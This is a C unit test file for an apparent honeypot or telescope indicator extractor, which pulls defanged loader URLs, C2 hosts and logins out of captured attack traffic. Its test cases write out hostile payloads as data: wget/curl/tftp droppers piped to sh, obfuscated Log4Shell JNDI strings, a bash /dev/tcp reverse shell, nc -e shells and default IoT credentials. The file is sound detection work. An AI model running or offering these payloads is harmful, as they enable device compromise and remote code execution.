#include "test/indicator_check.h"

#include <arpa/inet.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>

#include <cmocka.h>

static struct indicator_from packet_to(const char *dst, bool is_telnet)
{
    struct indicator_from from = {.is_telnet = is_telnet, .is_dark = check_is_dark};
    from.ip_version = strchr(dst, ':') != NULL ? 6 : 4;
    assert_int_equal(inet_pton(from.ip_version == 6 ? AF_INET6 : AF_INET, dst, from.dst), 1);
    return from;
}

/* "kind role value|..." of all that is found. */
static void text_of(char *to, const char *payload, const struct indicator_from *from)
{
    struct indicators found;
    const char *broken = indicator_check((const uint8_t *)payload, strlen(payload), from);
    indicators_find(&found, (const uint8_t *)payload, strlen(payload), from);
    if (broken != NULL)
        fail_msg("%s: %s", payload, broken);
    to[0] = 0;
    for (unsigned i = 0; i < found.count; i++)
        sprintf(to + strlen(to), "%s%s %s %s", i ? "|" : "", indicator_kind_name(found.at[i].kind),
                indicator_role_name(found.at[i].role), found.at[i].value);
}

#define URL(u, h) "url loader " u "|host loader " h

static void test_droppers(void **state)
{
    static const struct {
        const char *payload, *found;
    } cases[] = {
        {"cd /tmp; wget http://8.8.4.4/bins.sh; sh bins.sh",
         URL("hxxp://8[.]8[.]4[.]4/bins.sh", "8[.]8[.]4[.]4")},
        {"GET /shell?cd+/tmp;rm+-rf+*;wget+http://8.8.4.4:8080/jaws;sh+/tmp/jaws HTTP/1.1",
         URL("hxxp://8[.]8[.]4[.]4:8080/jaws", "8[.]8[.]4[.]4")},
        {"`cd%20/tmp;wget%20http%3A%2F%2Fevil.example%2Fx.mips%20-O%20-%20|sh`",
         URL("hxxp://evil[.]example/x.mips", "evil[.]example")},
        {"<NewStatusURL>$(/bin/busybox wget -g 8.8.4.4 -l /tmp/binary -r /mips ;)</NewStatusURL>",
         URL("hxxp://8[.]8[.]4[.]4/mips", "8[.]8[.]4[.]4")},
        {"wget${IFS}http://8.8.4.4/a${IFS}-O${IFS}/tmp/x.sh",
         URL("hxxp://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
        {"curl -s -o x.sh https://Evil.Example/p?q=1#f",
         URL("hxxps://evil[.]example/p", "evil[.]example")},
        {"curl -O evil.example/a.sh",
         "url loader hxxp://evil[.]example/a.sh|host loader evil[.]example"},
        {"tftp -g -r mirai.arm 8.8.4.4; ", URL("tftp://8[.]8[.]4[.]4/mirai.arm", "8[.]8[.]4[.]4")},
        {"tftp 8.8.4.4 -c get t.sh; sh t.sh", URL("tftp://8[.]8[.]4[.]4/t.sh", "8[.]8[.]4[.]4")},
        {"busybox tftp -g -l /tmp/a -r a 8.8.4.4 69\n",
         URL("tftp://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
        {"ftpget -v -u anonymous -p anonymous -P 21 8.8.4.4 ftp1.sh ftp1.sh; sh",
         URL("ftp://8[.]8[.]4[.]4/ftp1.sh", "8[.]8[.]4[.]4")},
        {"WGET http://8.8.4.4/u;Lwp-Download http://8.8.4.4/v",
         "url loader hxxp://8[.]8[.]4[.]4/u|host loader 8[.]8[.]4[.]4|url loader "
         "hxxp://8[.]8[.]4[.]4/v"},
        {"[wget http://8.8.4.4/u", URL("hxxp://8[.]8[.]4[.]4/u", "8[.]8[.]4[.]4")},
        {"@Ncat 8.8.4.8 44;{JNDI:ldap://8.8.4.2/a}",
         "host c2 8[.]8[.]4[.]8|url loader ldap://8[.]8[.]4[.]2/a|host loader 8[.]8[.]4[.]2"},
        {"wget http://134743044/x", URL("hxxp://8[.]8[.]4[.]4/x", "8[.]8[.]4[.]4")},
        {"wget http://0x08.010.0x4.4/x", URL("hxxp://8[.]8[.]4[.]4/x", "8[.]8[.]4[.]4")},
        {"wget http://[2606:4700::1111]/x",
         URL("hxxp://2606[:]4700[:][:]1111/x", "2606[:]4700[:][:]1111")},
        {"${jndi:ldap://evil.example:1389/a}",
         "url loader ldap://evil[.]example:1389/a|host loader evil[.]example"},
        {"bash -i >& /dev/tcp/8.8.4.4/4444 0>&1", "host c2 8[.]8[.]4[.]4"},
        {"rm /tmp/f;nc 8.8.4.4 4444 -e /bin/sh", "host c2 8[.]8[.]4[.]4"},
        {"wget http://192.168.1.1/x", URL("hxxp://192[.]168[.]1[.]1/x", "192[.]168[.]1[.]1")},
        {"/shell?cd+/tmp;wget+ http://8.8.4.4/.s/arm;sh+/tmp/arm HTTP/1.1",
         URL("hxxp://8[.]8[.]4[.]4/.s/arm", "8[.]8[.]4[.]4")},
        {"wget%2520http://8.8.4.4/a;", URL("hxxp://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
        {"curl --output x.sh http://8.8.4.4/y", URL("hxxp://8[.]8[.]4[.]4/y", "8[.]8[.]4[.]4")},
        {"curl -so x.sh 8.8.4.4", URL("hxxp://8[.]8[.]4[.]4/", "8[.]8[.]4[.]4")},
        {"wget evil.example", URL("hxxp://evil[.]example/", "evil[.]example")},
        {"${${lower:${lower:jndi}}:${lower:rmi}://8.8.4.4:1099/g}",
         URL("rmi://8[.]8[.]4[.]4:1099/g", "8[.]8[.]4[.]4")},
        {"${${::-j}ndi:${env:A:-l}d${upper:a}p://8.8.4.4/g}",
         URL("ldap://8[.]8[.]4[.]4/g", "8[.]8[.]4[.]4")},
        {"%24%7Bjndi%3Aldap%3A%2F%2F8.8.4.4%2Fa%7D",
         URL("ldap://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
        {"${jndi:ldap://8.8.4.4/a}${}", URL("ldap://8[.]8[.]4[.]4/a", "8[.]8[.]4[.]4")},
        /* What is none. */
        {"<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">", ""},
        {"SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp`", ""},
        {"GET / HTTP/1.1\r\nHost: evil.example\r\nReferer: http://evil.example/\r\n\r\n", ""},
        {"wget http://127.0.0.1/x", ""},
        {"wget http://localhost/x", ""},
        {"wget http://router.local/x", ""},
        {"wget http://224.1.2.3/x", ""},
        {"wget http://[::1]/x", ""},
        {"wget --help", ""},
        {"nc -l 4444", ""},
        {"mywget http://8.8.4.4/x", ""},
    };
    const struct indicator_from from = packet_to("203.0.112.9", false);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char found[INDICATORS_MAX * 320];
        text_of(found, cases[i].payload, &from);
        if (strcmp(found, cases[i].found) != 0)
            fail_msg("%s: %s, expected %s", cases[i].payload, found, cases[i].found);
    }
}

static void test_logins(void **state)
{
    static const struct {
        const char *payload;
        bool is_telnet;
        const char *found;
    } cases[] = {
        {"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46MTIzNA==\r\n\r\n", false,
         "login login admin:1234"},
        {"GET / HTTP/1.1\r\nauthorization: basic YWRtaW46\r\n\r\n", false, "login login admin:"},
        {"GET / HTTP/1.1\r\nAuthorization: Digest username=\"a\"\r\n\r\n", false, ""},
        {"POST /boaform/admin/formLogin HTTP/1.1\r\n\r\nusername=admin&psd=Feefifofum&x=1", false,
         "login login admin:Feefifofum"},
        {"GET /set_ftp.cgi?loginuse=root&loginpas=p%3Aw HTTP/1.1\r\n", false,
         "login login root:p:w"},
        {"GET /set_ftp.cgi?loginuse=&loginpas= HTTP/1.1\r\n", false, ""},
        {"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n", true, "login login root:xc3511"},
        {"root\r\nxc3511\r\nenable\r\n", false, ""},
        {"enable\r\nsystem\r\nshell\r\n", true, ""},
        {"root\r\nxc35", true, ""},
        {"\xff\xfd\x01\xff\xfa\x18\x00xterm\xff\xf0"
         "admin\nadmin\n",
         true, "login login admin:admin"},
        {"/bin/busybox MIRAI\r\nx\r\n", true, ""},
        {"xc3511\r\n", true, "login login :xc3511"},
        {"xc3511\r\n", false, ""},
        {"xc3511", true, ""},
        {"shell\r\n", true, ""},
        {"GET /Security/users?auth=YWRtaW46MTEK HTTP/1.1\r\n", false, "login login admin:11"},
        {"{\"username\": \"admin\", \"password\":\"a b\"}", false, "login login admin:a b"},
        {"user=a%26b&pass=c+d \r\n", false, "login login a&b:c d"},
    };
    const struct indicator_from plain = packet_to("203.0.112.9", false);
    const struct indicator_from telnet = packet_to("203.0.112.9", true);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char found[INDICATORS_MAX * 320];
        if (memchr(cases[i].payload, 0, 20) != NULL && cases[i].payload[0] == '\xff') {
            struct indicators one;
            indicators_find(&one, (const uint8_t *)cases[i].payload, 26, &telnet);
            assert_int_equal(one.count, 1);
            assert_string_equal(one.at[0].value, "admin:admin");
            continue;
        }
        text_of(found, cases[i].payload, cases[i].is_telnet ? &telnet : &plain);
        if (strcmp(found, cases[i].found) != 0)
            fail_msg("%s: %s, expected %s", cases[i].payload, found, cases[i].found);
    }
}

/* No way of writing an address of the telescope gets out; `%s` takes it. */
static void test_the_telescope_stays_dark(void **state)
{
    static const char *const places[] = {
        "wget http://%s/x; sh",
        "wget http://%s.evil.example/x; sh",
        "wget http://8.8.4.4/%s/x; sh",
        "wget http://8.8.4.4/a-%s.sh; sh",
        "tftp -g -r %s 8.8.4.4;",
        "nc %s 4444;",
        "username=%s&password=x&y=1",
        "username=x&password=%s&y=1",
        "/dev/tcp/%s/80 ",
        "${jndi:ldap://x%s.evil.example/a}",
        "curl http://%s:8080/x;",
    };
    static const char *const written[] = {
        /* 203.0.112.9, the packet's destination */
        "203.0.112.9",
        "203-0-112-9",
        "203_0_112_9",
        "9.112.0.203",
        "9-112-0-203",
        "3405803529",
        "0xcb007009",
        "cb007009",
        "CB007009",
        "097000cb",
        "0313.0.0160.011",
        "203.28681",
        "203.0.28681",
        "%%32%%30%%33.0.112.9",
        "203%%2e0%%2e112%%2e9",
        "203.000.112.009",
        "MjAzLjAuMTEyLjk",
        "ywBwCQ",
        "::ffff:203.0.112.9",
        "0xcb.0x0.0x70.0x9",
        /* others of the telescope */
        "198.51.100.20",
        "198-51-100-20",
        "c6336414",
        "3325256724",
        "146433c6",
        "20.100.51.198",
        "2001:db8:dead::1",
        "2001-db8-dead--1",
        "20010db8dead00000000000000000001",
        "::ffff:c633:6414",
        "64:ff9b::c633:6414",
        "2002:c633:6414::",
    };
    const struct indicator_from from = packet_to("203.0.112.9", false);
    for (size_t p = 0; p < sizeof places / sizeof *places; p++) {
        for (size_t w = 0; w < sizeof written / sizeof *written; w++) {
            char address[128], payload[512], found[INDICATORS_MAX * 320];
            snprintf(address, sizeof address, written[w], "");
            snprintf(payload, sizeof payload, places[p], address);
            text_of(found, payload, &from);
            if (strstr(found, address) != NULL)
                fail_msg("%s: %s", payload, found);
            if (found[0] != 0 && strcmp(found, "host loader 8[.]8[.]4[.]4") != 0)
                fail_msg("%s: %s", payload, found);
        }
    }
    /* Queries are cut: what is there does not matter. */
    char found[INDICATORS_MAX * 320];
    text_of(found, "wget http://8.8.4.4/x?from=203.0.112.9;", &from);
    assert_string_equal(found, URL("hxxp://8[.]8[.]4[.]4/x", "8[.]8[.]4[.]4"));
    /* The same texts from a packet to elsewhere, without a telescope, are told. */
    struct indicator_from other = packet_to("9.9.9.9", false);
    other.is_dark = NULL;
    text_of(found, "wget http://8.8.4.4/203.0.112.9;", &other);
    assert_string_equal(found, URL("hxxp://8[.]8[.]4[.]4/203.0.112.9", "8[.]8[.]4[.]4"));
}

static unsigned count_of(const char *payload, size_t len, const struct indicator_from *from,
                         struct indicators *found)
{
    indicators_find(found, (const uint8_t *)payload, len, from);
    return found->count;
}

/* A payload that goes on behind what was caught: its last word may be half a word. */
static void test_cut(void **state)
{
    const struct indicator_from whole = packet_to("203.0.112.9", false);
    struct indicator_from cut = whole;
    char payload[INDICATOR_BYTES + 1];
    struct indicators found;
    cut.is_cut = true;
    memset(payload, 'x', sizeof payload);
    memcpy(payload, "wget http://8.8.4.4/", 20);
    assert_int_equal(count_of(payload, 60, &whole, &found), 2);
    assert_int_equal(count_of(payload, 60, &cut, &found), 0);
    memcpy(payload + 60, ";", 1);
    assert_int_equal(count_of(payload, 80, &cut, &found), 2);
    assert_int_equal(count_of(payload, sizeof payload, &whole, &found), 2);
    /* What is beyond what is looked at does not matter; nor what is too long to be told. */
    memset(payload, 'x', sizeof payload);
    memcpy(payload + INDICATOR_BYTES - 30, "; wget http://8.8.4.4/abcdefgh;", 31);
    assert_int_equal(count_of(payload, INDICATOR_BYTES, &whole, &found), 2);
    assert_int_equal(count_of(payload, sizeof payload, &whole, &found), 0);
}

/* What mentions the telescope is counted. */
static void test_withheld(void **state)
{
    const struct indicator_from from = packet_to("203.0.112.9", false);
    static const char *const payloads[] = {"wget http://203.0.112.9/x;", "nc 198.51.100.1 80;",
                                           "user=203.0.112.9&pass=x&"};
    struct indicators found;
    for (size_t i = 0; i < sizeof payloads / sizeof *payloads; i++) {
        assert_int_equal(count_of(payloads[i], strlen(payloads[i]), &from, &found), 0);
        assert_int_equal(found.withheld, 1);
    }
    assert_int_equal(count_of("wget http://8.8.4.4/203.0.112.9;", 32, &from, &found), 1);
    assert_int_equal(found.withheld, 1);
}

static void test_private(void **state)
{
    static const struct {
        const char *value;
        bool is_private;
    } cases[] = {
        {"10[.]1[.]2[.]3", true},      {"172[.]31[.]0[.]1", true}, {"172[.]32[.]0[.]1", false},
        {"192[.]168[.]0[.]1", true},   {"100[.]64[.]0[.]1", true}, {"169[.]254[.]0[.]1", true},
        {"8[.]8[.]4[.]4", false},      {"fd00[:][:]1", true},      {"fe80[:][:]1", true},
        {"2606[:]4700[:][:]1", false}, {"evil[.]example", false},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        assert_int_equal(indicator_is_private(INDICATOR_HOST, cases[i].value), cases[i].is_private);
    assert_true(indicator_is_private(INDICATOR_URL, "hxxp://10[.]1[.]2[.]3:80/x"));
    assert_true(indicator_is_private(INDICATOR_URL, "hxxp://fd00[:][:]1:80/x"));
    assert_false(indicator_is_private(INDICATOR_URL, "hxxp://8[.]8[.]4[.]4/10.1.2.3"));
    assert_false(indicator_is_private(INDICATOR_LOGIN, "10.1.2.3:x"));
}

static void test_refang(void **state)
{
    static const struct {
        enum indicator_kind kind;
        const char *value, *plain;
    } cases[] = {
        {INDICATOR_HOST, "evil[.]example", "evil.example"},
        {INDICATOR_HOST, "2001[:]db8[:][:]1", "2001:db8::1"},
        {INDICATOR_URL, "hxxp://8[.]8[.]4[.]4:8080/a[.]b", "http://8.8.4.4:8080/a[.]b"},
        {INDICATOR_URL, "hxxps://evil[.]example/hxxp", "https://evil.example/hxxp"},
        {INDICATOR_URL, "tftp://8[.]8[.]4[.]4/a", "tftp://8.8.4.4/a"},
        {INDICATOR_URL, "hxxp://2001[:]db8[:][:]1:81/x", "http://[2001:db8::1]:81/x"},
        {INDICATOR_URL, "hxxp://2001[:]db8[:][:]1/x", "http://[2001:db8::1]/x"},
        {INDICATOR_LOGIN, "a[.]b:c", "a[.]b:c"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char plain[INDICATOR_VALUE];
        assert_string_equal(indicator_refang(plain, sizeof plain, cases[i].kind, cases[i].value),
                            cases[i].plain);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_droppers),
        cmocka_unit_test(test_logins),
        cmocka_unit_test(test_the_telescope_stays_dark),
        cmocka_unit_test(test_cut),
        cmocka_unit_test(test_withheld),
        cmocka_unit_test(test_private),
        cmocka_unit_test(test_refang),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
